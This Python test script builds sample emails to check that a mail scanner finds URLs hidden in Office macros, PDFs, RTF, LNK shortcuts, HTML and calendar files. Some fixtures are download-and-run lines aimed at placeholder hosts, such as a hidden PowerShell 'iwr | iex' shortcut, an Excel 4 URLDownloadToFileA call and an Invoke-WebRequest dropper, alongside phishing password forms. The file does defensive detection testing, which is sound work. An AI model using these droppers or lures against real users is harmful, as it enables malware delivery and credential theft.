#!/usr/bin/env python3
"""sources.py - every place a URL can hide, in mails built at test time:
the URL module (src/checks/urls/) must find each URL, say where it was
found ("in": the part or the object path, "as": text, href, src, action,
refresh, object, ...), and fire exactly the URL symbols listed.

usage: sources.py --mamori BIN WORKDIR [--show] [--only NAME ...]

Each entry of CASES builds one mail (real documents of tests/data/maldocs
where one fits, otherwise files written here byte by byte), and says:

  urls     the report's "urls" list exactly, as a set of entries
           (url, {(in, as), ...}); "text" is compared where given, and
           other keys of the entry (original, unwrapped_from) where a
           third element gives them
  symbols  the exact set of the URL module's symbols in the report

A check mamori is known to fail (a source it does not read yet) is listed
in KNOWN_MISS with the reason: it is run, printed as KNOWN MISS with what
the report said, and does not fail the script; if it starts to pass, the
script says so (FIXED) and fails, so that the entry is removed and the
check becomes an ordinary one.

--show prints each report's "urls" and symbols (to write expectations).
"""
import argparse
import base64
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email import encoders

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
MALDOCS = os.path.join(ROOT, "tests", "data", "maldocs")
sys.path.insert(0, os.path.join(ROOT, "tests", "support"))
sys.path.insert(0, os.path.join(ROOT, "examples", "documents"))

# The URL module's symbols (src/checks/urls/check_urls.c SYMBOLS): the
# set of these in a report must be exactly the case's "symbols".
URL_SYMBOLS = {
    "URL_BLOCKLISTED", "URL_IN_ATTACHMENT", "QR_CODE_URL", "PHISHING_LINK_MISMATCH",
    "URL_IP_HOST", "URL_USERINFO", "URL_HOMOGRAPH", "URL_SHORTENER", "URL_REDIRECTOR",
    "URL_DATA_URI", "URL_DNS_ERROR",
}

# name -> why mamori misses it today (see the module's report in the
# output).  Keep this list short and exact.
KNOWN_MISS = {
}


# ---- mails ------------------------------------------------------------------------


def message(name, body, attachments=(), html=None, headers=()):
    """A mail: a text body (or text + HTML alternative), then attachments
    [(filename, maintype/subtype, bytes)]."""
    m = MIMEMultipart("mixed")
    if html is not None:
        alt = MIMEMultipart("alternative")
        alt.attach(MIMEText(body, "plain", "utf-8"))
        alt.attach(MIMEText(html, "html", "utf-8"))
        m.attach(alt)
    else:
        m.attach(MIMEText(body, "plain", "utf-8"))
    for fname, ctype, data in attachments:
        maintype, subtype = ctype.split("/", 1)
        a = MIMEBase(maintype, subtype)
        a.set_payload(data)
        encoders.encode_base64(a)
        a.add_header("Content-Disposition", "attachment", filename=fname)
        a.set_param("name", fname)
        m.attach(a)
    m["From"] = "Sender <sender@example.com>"
    m["To"] = "rcpt@example.jp"
    m["Subject"] = Header(f"sources: {name}", "utf-8")
    m["Date"] = "Thu, 26 Nov 2026 09:00:00 +0900"
    m["Message-ID"] = f"<sources-{name}@example.com>"
    for k, v in headers:
        m[k] = v
    return m.as_bytes()


def maldoc(rel):
    with open(os.path.join(MALDOCS, rel), "rb") as f:
        return f.read()


# ---- VBA: a real project with a URL in a string ---------------------------------------
# (tests/support/make_vba.py: Module1's source replaced in a real project)

def vba_project(url):
    import make_vba
    return make_vba.vba_project_source(b'Sub A()\r\nu = "' + url.encode() + b'"\r\nEnd Sub\r\n')


def docm(vba_bin):
    import make_vba
    return make_vba.docm(vba_bin)


# ---- PDF, RTF, LNK, HTML, calendar ---------------------------------------------------


def pdf(objs):
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (i, o))
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objs) + 1, x))
    return out.getvalue()


def pdf_annot_uri(url):
    """A page whose link annotation (in /Annots, no OpenAction) is a URI action."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /Border [0 0 0] "
        b"/A << /Type /Action /S /URI /URI (" + url.encode() + b") >> >>",
    ])


def pdf_openaction_uri(url):
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Action /S /URI /URI (" + url.encode() + b") >>",
    ])


def pdf_page_text(text, flate=False):
    """A page whose content stream shows text (no link, no action);
    flate: the stream FlateDecode-compressed, the text in a TJ array cut
    in three (with kerning), one piece written with escapes."""
    if flate:
        third = len(text) // 3
        a, b, c = text[:third], text[third:2 * third], text[2 * third:]
        esc = "".join("\\%03o" % ord(ch) if ch in "/." else ch for ch in b)
        content = ("BT /F1 12 Tf 50 700 Td [(" + a + ") -12 (" + esc + ") 30 (" + c +
                   ")] TJ ET").encode()
        content = zlib.compress(content)
        head = b"<< /Length %d /Filter /FlateDecode >>" % len(content)
    else:
        content = b"BT /F1 12 Tf 50 700 Td (" + text.encode() + b") Tj ET"
        head = b"<< /Length %d >>" % len(content)
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        head + b"\nstream\n" + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def rtf(body):
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\n" + body +
            "\n}\n").encode("ascii")


def lnk(target, args):
    import make_documents
    return make_documents.lnk(target, args)


def xlsm_with_formula(formula):
    """oletools' excel4_sample_macro.xlsm (an Excel 4.0 macro sheet run by
    Auto_Open) with its ALERT(...) formula replaced by formula."""
    src = zipfile.ZipFile(io.BytesIO(maldoc("oletools/xlm/excel4_sample_macro.xlsm")))
    buf = io.BytesIO()
    old = b'<f>ALERT("This is a sample Excel 4 macro")</f>'
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/macrosheets/sheet1.xml":
                assert old in data
                data = data.replace(old, b"<f>" + formula.encode() + b"</f>")
            z.writestr(info.filename, data)
    return buf.getvalue()


def xls_with_alert(text):
    """oletools' excel4_sample_macro.xls (BIFF8, an Excel 4.0 macro sheet
    run by Auto_Open) with the 30 characters of its ALERT string constant
    (a PtgStr) overwritten in place."""
    data = bytearray(maldoc("oletools/xlm/excel4_sample_macro.xls"))
    old = b"This is a sample Excel 4 macro"
    at = data.find(old)
    assert at > 0 and data[at - 3:at - 1] == bytes([0x17, len(old)]) and len(text) == len(old)
    data[at:at + len(old)] = text.encode()
    return bytes(data)


def onenote_with_script():
    import make_documents
    return make_documents.onenote_with_script()


def ppap_zip(name, data, password):
    d = os.path.join(WORK, "ppap")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    out = os.path.join(d, "out.zip")
    subprocess.run(["zip", "-q", "-P", password, out, name], cwd=d, check=True,
                   capture_output=True)
    with open(out, "rb") as f:
        return f.read()


HTML_ATTACHMENT = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="5; url=https://att-refresh.example/next">
<title>Invoice</title></head>
<body><p>Your invoice is ready.</p>
<a href="https://att-href.example/view?id=1">View invoice</a>
<img src="https://att-img.example/logo.png" alt="">
<form method="post" action="https://att-form.example/post.php">
<input type="password" name="pw"><button>Open</button></form>
</body></html>
"""

HTML_BASE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><base href="https://base-host.example/portal/"></head>
<body><p><a href="login.html">Sign in</a></p></body></html>
"""

HTML_FORMACTION = """<!DOCTYPE html>
<html><head><meta charset="utf-8"></head>
<body><form action="https://form-host.example/a"><input name="q">
<button formaction="https://formaction-host.example/b">Go</button></form>
</body></html>
"""

HTML_BODY = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://body-refresh.example/go">
</head><body>
<p>Please confirm your account.</p>
<p><a href="https://body-href.example/confirm">Confirm</a></p>
<p><img src="https://body-img.example/banner.png" alt="banner"></p>
<form action="https://body-form.example/login" method="post">
<input name="user"><input type="password" name="pass"><input type="submit" value="Sign in">
</form>
</body></html>
"""

ICS = """BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//Example//Meeting//EN\r
METHOD:REQUEST\r
BEGIN:VEVENT\r
UID:20261126T100000-1@example.com\r
DTSTAMP:20261126T000000Z\r
DTSTART:20261127T010000Z\r
DTEND:20261127T020000Z\r
SUMMARY:Quarterly review\r
URL:https://ics-url.example/meeting/42\r
DESCRIPTION:Join the review: https://ics-description.example/join?m=42 (the\r
  agenda is attached)\r
END:VEVENT\r
END:VCALENDAR\r
"""
# RFC 5545 3.3.11: a newline in a TEXT value is written "\\n"; a URL at
# the end of a line of DESCRIPTION is followed by it.
ICS_ESCAPED = ICS.replace("join?m=42 (the\r\n  agenda is attached)",
                          "join?m=42\\nAgenda attached.")
assert ICS_ESCAPED != ICS

# RFC 5545 3.1: lines longer than 75 octets are folded (CRLF and a space);
# a long meeting link is cut in two.
ICS_FOLDED = """BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//Example//Meeting//EN\r
BEGIN:VEVENT\r
UID:20261126T100000-2@example.com\r
DTSTAMP:20261126T000000Z\r
DTSTART:20261127T010000Z\r
SUMMARY:Weekly call\r
URL:https://ics-folded.example/meeting/j/8812345678?pwd=Zm9sZGVkLWxpbmUtaW4\r
 tYW4taWNzLWZpbGU\r
END:VEVENT\r
END:VCALENDAR\r
"""

# ---- the cases ----------------------------------------------------------------------

A = "URL_IN_ATTACHMENT"
EXT_LINK = ("https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/"
            "msodde/harmless-clean.doc")


def build_cases():
    """name -> (mail bytes, expected urls [(url, [(in, as[, text])])], symbols)"""
    c = {}
    c["ooxml_external_relationship"] = (
        message("ooxml", "See the attached file.\n",
                [("link.docx", "application/vnd.openxmlformats-officedocument."
                  "wordprocessingml.document",
                  maldoc("oletools/oleobj/sample_with_external_link_to_doc.docx"))]),
        [(EXT_LINK, [("link.docx", "object")])], {A})
    c["vba_string_in_docm"] = (
        message("vba", "The macro document.\n",
                [("report.docm", "application/vnd.ms-word.document.macroEnabled.12",
                  docm(vba_project("https://vba-str.example/p")))]),
        [("https://vba-str.example/p",
          [("report.docm/word/vbaProject.bin", "object")])], {A})
    c["vba_source_text"] = (
        message("vbasrc", "Module attached.\n",
                [("test.vba", "text/plain", maldoc("strelka/test.vba"))]),
        [("https://www.test.example.com/", [("test.vba", "object")]),
         ("https://www.test.com/test.bat", [("test.vba", "object")])], {A})
    c["xlm_formula_string"] = (
        message("xlm", "The macro sheet.\n",
                [("book.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12",
                  xlsm_with_formula(
                      'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
                      '"https://xlm-str.example/p.exe","c:\\users\\public\\p.exe",0,0)'))]),
        [("https://xlm-str.example/p.exe", [("book.xlsm", "object")])], {A})
    c["xlm_formula_string_xls"] = (
        message("xlmxls", "The macro sheet.\n",
                [("book.xls", "application/vnd.ms-excel",
                  xls_with_alert("get https://xlm-xls.example/p "))]),
        [("https://xlm-xls.example/p", [("book.xls", "object")])], {A})
    c["onenote_embedded_script"] = (
        message("onenote", "Notes attached.\n",
                [("notes.one", "application/onenote", onenote_with_script())]),
        [("https://example.invalid/p.ps1", [("notes.one/embedded2.png", "object"),
                                            ("notes.one/embedded2.png", "text")])], {A})
    c["script_attachment"] = (
        message("script", "Run the update.\n",
                [("update.ps1", "application/octet-stream",
                  b"$u = 'https://ps1-script.example/u.exe'\r\n"
                  b"Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\u.exe\r\n")]),
        [("https://ps1-script.example/u.exe", [("update.ps1", "object"), ("update.ps1", "text")])],
        {A})
    c["lnk_arguments"] = (
        message("lnk", "Your scan.\n",
                [("Scan_1126.pdf.lnk", "application/octet-stream",
                  lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "-w hidden -nop -c \"iwr https://lnk-args.example/s.ps1 | iex\""))]),
        [("https://lnk-args.example/s.ps1", [("Scan_1126.pdf.lnk", "object")])], {A})
    c["rtf_hyperlink_field"] = (
        message("rtf", "Document attached.\n",
                [("letter.rtf", "application/rtf", rtf(
                    "\\pard Dear customer, "
                    "{\\field{\\*\\fldinst HYPERLINK \"https://rtf-link.example/x\"}"
                    "{\\fldrslt click}}\\par\n"
                    "{\\field{\\*\\fldinst INCLUDEPICTURE \"https://rtf-picture.example/p.png\""
                    " \\\\d}{\\fldrslt }}\\par"))]),
        [("https://rtf-link.example/x", [("letter.rtf", "object")]),
         ("https://rtf-picture.example/p.png", [("letter.rtf", "object")])], {A})
    c["rtf_template"] = (
        message("rtftemplate", "Document attached.\n",
                [("form.rtf", "application/rtf", rtf(
                    "{\\*\\template https://rtf-template.example/t.dotm}\n"
                    "\\pard Please fill in the form.\\par"))]),
        [("https://rtf-template.example/t.dotm", [("form.rtf", "object")])], {A})
    c["pdf_uri_openaction"] = (
        message("pdfopen", "Invoice attached.\n",
                [("open.pdf", "application/pdf",
                  pdf_openaction_uri("https://pdf-open.example/inv"))]),
        [("https://pdf-open.example/inv", [("open.pdf", "object")])], {A})
    c["pdf_uri_annotation"] = (
        message("pdfannot", "Invoice attached.\n",
                [("annot.pdf", "application/pdf",
                  pdf_annot_uri("https://pdf-annot.example/pay?id=9"))]),
        [("https://pdf-annot.example/pay?id=9", [("annot.pdf", "object")])], {A})
    c["html_attachment"] = (
        message("htmlatt", "Invoice attached.\n",
                [("invoice.html", "text/html", HTML_ATTACHMENT.encode())]),
        [("https://att-refresh.example/next", [("invoice.html", "refresh"),
                                               ("invoice.html", "object")]),
         ("https://att-href.example/view?id=1", [("invoice.html", "href", "View invoice"),
                                                 ("invoice.html", "object")]),
         ("https://att-img.example/logo.png", [("invoice.html", "src"),
                                               ("invoice.html", "object")]),
         ("https://att-form.example/post.php", [("invoice.html", "action"),
                                                ("invoice.html", "object")])], {A})
    c["html_body"] = (
        message("htmlbody", "Please confirm your account.\n", html=HTML_BODY),
        [("https://body-refresh.example/go", [("html part 2", "refresh")]),
         ("https://body-href.example/confirm", [("html part 2", "href", "Confirm")]),
         ("https://body-img.example/banner.png", [("html part 2", "src")]),
         ("https://body-form.example/login", [("html part 2", "action")])], set())
    c["html_base_relative_link"] = (
        message("htmlbase", "Please sign in.\n", html=HTML_BASE),
        [("https://base-host.example/portal/", [("html part 2", "href")]),
         ("https://base-host.example/portal/login.html", [("html part 2", "href", "Sign in")])],
        set())
    c["html_formaction"] = (
        message("htmlform", "Search.\n", html=HTML_FORMACTION),
        [("https://form-host.example/a", [("html part 2", "action")]),
         ("https://formaction-host.example/b", [("html part 2", "formaction")])], set())
    c["pdf_page_text"] = (
        message("pdftext", "Invoice attached.\n",
                [("text.pdf", "application/pdf",
                  pdf_page_text("Pay at https://pdf-text.example/pay now"))]),
        [("https://pdf-text.example/pay", [("text.pdf", "object")])], {A})
    c["pdf_page_text_flate"] = (
        message("pdftextz", "Invoice attached.\n",
                [("textz.pdf", "application/pdf",
                  pdf_page_text("Pay at https://pdf-flate.example/pay/now.", flate=True))]),
        [("https://pdf-flate.example/pay/now", [("textz.pdf", "object")])], {A})
    safe = ("https://apc01.safelinks.protection.outlook.com/?url=https%3A%2F%2F"
            "wrapped-in-pdf.example%2Finvoice%3Fid%3D3&data=05%7C02%7C&sdata=x&reserved=0")
    c["pdf_safelinks_wrapped"] = (
        message("pdfsafe", "Invoice attached.\n",
                [("wrapped.pdf", "application/pdf", pdf_annot_uri(safe))]),
        [("https://wrapped-in-pdf.example/invoice?id=3", [("wrapped.pdf", "object")],
          {"original": [safe], "unwrapped_from": ["safelinks"]})], {A})
    pw = "Pp4p-2026!"
    c["ppap_zip_document"] = (
        message("ppap", f"請求書をお送りします。\nパスワード: {pw}\n",
                [("invoice.zip", "application/zip",
                  ppap_zip("invoice.pdf", pdf_annot_uri("https://ppap-doc.example/pay"), pw))]),
        [("https://ppap-doc.example/pay", [("invoice.zip/invoice.pdf", "object")])], {A})
    c["calendar_ics_folded"] = (
        message("icsfold", "Meeting invitation.\n",
                [("invite.ics", "text/calendar", ICS_FOLDED.encode())]),
        [("https://ics-folded.example/meeting/j/8812345678?pwd=Zm9sZGVkLWxpbmUtaW4tYW4taWNzLWZpbGU",
          [("invite.ics", "text")])], {A})
    c["calendar_ics_escaped_newline"] = (
        message("icsesc", "Meeting invitation.\n",
                [("invite.ics", "text/calendar", ICS_ESCAPED.encode())]),
        [("https://ics-url.example/meeting/42", [("invite.ics", "text")]),
         ("https://ics-description.example/join?m=42", [("invite.ics", "text")])], {A})
    c["calendar_ics"] = (
        message("ics", "Meeting invitation.\n",
                [("invite.ics", "text/calendar", ICS.encode())]),
        [("https://ics-url.example/meeting/42", [("invite.ics", "text")]),
         ("https://ics-description.example/join?m=42", [("invite.ics", "text")])], {A})
    c["text_fullwidth"] = (
        message("fullwidth",
                "ログインしてください：ｈｔｔｐｓ：／／ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ／ｌｏｇｉｎ\n"),
        [("https://www.evil.example/login", [("text part 1", "text")])], set())
    c["text_bare_www"] = (
        message("www", "Visit www.bare-host.example/path?a=1 today.\n"),
        [("http://www.bare-host.example/path?a=1", [("text part 1", "text")])], set())
    return c


# ---- checking -----------------------------------------------------------------------


def got_urls(report, entries):
    out = {}
    for u in report.get("urls", []):
        entries[u["url"]] = u
        places = set()
        for f in u.get("found", []):
            places.add((f["in"], f["as"]) + ((f["text"],) if "text" in f else ()))
        out[u["url"]] = places
    return out


def compare(want, wsyms, report):
    errs = []
    entries = {}
    have = got_urls(report, entries)
    want_map = {}
    for url, places, *extra in want:
        want_map[url] = places
        for k, v in (extra[0] if extra else {}).items():
            if url in entries and entries[url].get(k) != v:
                errs.append(f"URL {url}: {k} {entries[url].get(k)}, expected {v}")
    for url, places in want_map.items():
        if url not in have:
            errs.append(f"URL {url} not found")
            continue
        got = have[url]
        # "text" is compared only where the expectation gives it
        exp = set()
        for p in places:
            if len(p) == 2:
                match = [g for g in got if g[:2] == p]
                exp.update(match if len(match) == 1 and len(match[0]) == 3 else [p])
            else:
                exp.add(p)
        if got != exp:
            errs.append(f"URL {url}: found {sorted(got)}, expected {sorted(exp)}")
    for url in have:
        if url not in want_map:
            errs.append(f"URL {url} not expected (found {sorted(have[url])})")
    syms = {s for s in report.get("symbols", {}) if s in URL_SYMBOLS}
    if syms != wsyms:
        errs.append(f"URL symbols {sorted(syms)}, expected {sorted(wsyms)}")
    return errs


WORK = None


def main():
    global WORK
    ap = argparse.ArgumentParser()
    ap.add_argument("--mamori", required=True)
    ap.add_argument("--show", action="store_true")
    ap.add_argument("--only", nargs="*")
    ap.add_argument("workdir")
    a = ap.parse_args()
    WORK = os.path.abspath(a.workdir)
    os.makedirs(WORK, exist_ok=True)
    cases = build_cases()
    names = [n for n in cases if not a.only or n in a.only]
    paths = []
    for n in names:
        p = os.path.join(WORK, n + ".eml")
        with open(p, "wb") as f:
            f.write(cases[n][0])
        paths.append(p)
    p = subprocess.run([a.mamori, "scan", "--json"] + paths, capture_output=True, text=True)
    if p.returncode not in (0, 1) or p.stderr:
        print(f"sources: mamori exit {p.returncode}: {p.stderr[:1000]}")
        return 1
    reports = [json.loads(line) for line in p.stdout.splitlines()]
    if len(reports) != len(names):
        print(f"sources: {len(reports)} reports for {len(names)} mails")
        return 1
    failed, misses, fixed = 0, 0, 0
    for n, r in zip(names, reports):
        _, want, wsyms = cases[n]
        if a.show:
            print(f"== {n}: {sorted(r['symbols'])}")
            print(json.dumps(r.get("urls", []), ensure_ascii=False, indent=1))
        errs = compare(want, wsyms, r)
        if n in KNOWN_MISS:
            if errs:
                misses += 1
                print(f"KNOWN MISS {n}: {KNOWN_MISS[n]}")
                for e in errs:
                    print(f"    {e}")
            else:
                fixed += 1
                print(f"FIXED {n}: passes now; remove it from KNOWN_MISS")
        elif errs:
            failed += 1
            for e in errs:
                print(f"FAIL {n}: {e}")
        else:
            print(f"ok   {n}")
    print(f"sources: {len(names)} mails, {failed} failures, {misses} known misses"
          + (f", {fixed} known misses now passing" if fixed else ""))
    return 1 if failed or fixed else 0


if __name__ == "__main__":
    sys.exit(main())
